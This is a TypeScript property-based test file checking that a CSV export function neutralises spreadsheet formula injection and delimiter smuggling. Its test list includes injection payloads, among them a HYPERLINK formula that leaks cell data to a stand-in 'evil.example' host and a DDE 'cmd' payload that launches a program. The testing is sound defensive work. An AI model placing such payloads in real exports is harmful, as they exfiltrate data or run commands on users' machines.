import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { toCsv } from "../../../shared/figures/csv.ts";

/** RFC 4180, as a program with this separator reads it, also where a quote is in the middle of a cell. */
const parse = (text: string, separator = ","): string[][] => {
  const rows: string[][] = [[]];
  let [cell, quoted] = ["", false];
  const body = text.replace(/^\u{feff}/u, "");
  for (let at = 0; at < body.length; at += 1) {
    const character = body[at] ?? "";
    if (quoted && character === '"' && body[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (character === '"' && (quoted || cell === "")) quoted = !quoted;
    else if (!quoted && (character === separator || character === "\n")) {
      rows.at(-1)?.push(cell.replace(/\r$/u, ""));
      cell = "";
      if (character === "\n") rows.push([]);
    } else cell += character;
  }
  return rows.slice(0, -1);
};

/** As greedy as the greediest spreadsheet: blanks, quotes and invisible characters are skipped, and forms are folded. */
const isFormula = (cell: string): boolean => /^[\s\p{C}\p{Z}\p{M}"`‘’“”«»＂＇]*[=+\-@−]/u.test(cell.normalize("NFKC"));

const NASTY = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  '"=1"',
  "'=1",
  "“=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "\u200b=1",
  "\u{feff}=1",
  "\u3000＝1",
  "\u2212 1",
  "\u2a75 1",
  "\ufb29 1",
  "\u00b4=1",
  "a;\u2a76 1",
  'a";=1',
  "a;=1",
  'x","=1',
  "a,=1",
  '=HYPERLINK("http://evil.example?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
];
const nasty = fc
  .array(fc.oneof(fc.constantFrom(..."=+-@＝＋－＠\t\r\n \"';,|\u200b\u3000a1"), fc.string({ unit: "binary" })), {
    maxLength: 8,
  })
  .map((parts) => parts.join(""));

describe("a text in a CSV", () => {
  it.each(NASTY)("is no formula: %j", (value) => {
    const [, [cell = ""] = []] = parse(toCsv(["name", "count"], [[value, 3]]));
    expect(cell).not.toSatisfy(isFormula);
  });

  it("is no formula, whatever it is and whichever separator a program takes", () => {
    fc.assert(
      fc.property(nasty, nasty, (first, second) => {
        const csv = toCsv(["name", "kind", "count"], [[first, second, 3]]);
        for (const separator of [",", ";", "\t", "|"]) {
          for (const cell of parse(csv, separator).flat()) expect(cell).not.toSatisfy(isFormula);
        }
      }),
      { numRuns: 3_000 },
    );
  });

  it("never makes another row or column", () => {
    fc.assert(
      fc.property(nasty, (value) => {
        const rows = parse(toCsv(["name", "count"], [[value, 3]]));
        expect(rows.map((row) => row.length)).toEqual([2, 2]);
        expect(rows[1]?.[1]).toBe("3");
      }),
      { numRuns: 1_000 },
    );
  });

  it("stays what it is where it is harmless", () => {
    const harmless = [
      "Espresso machine ES-200",
      "커피 머신",
      'the "best" one',
      "a, b; c",
      "50 % = half",
      "R&D @ home",
      "",
    ];
    expect(
      parse(
        toCsv(
          ["name"],
          harmless.map((text) => [text]),
        ),
      )
        .slice(1)
        .flat(),
    ).toEqual(harmless);
  });
});

it("numbers stay numbers, and what isn't known is empty", () => {
  expect(toCsv(["a", "b", "c"], [[0.25, null, -1]])).toBe('\u{feff}"a","b","c"\r\n0.25,,-1\r\n');
});
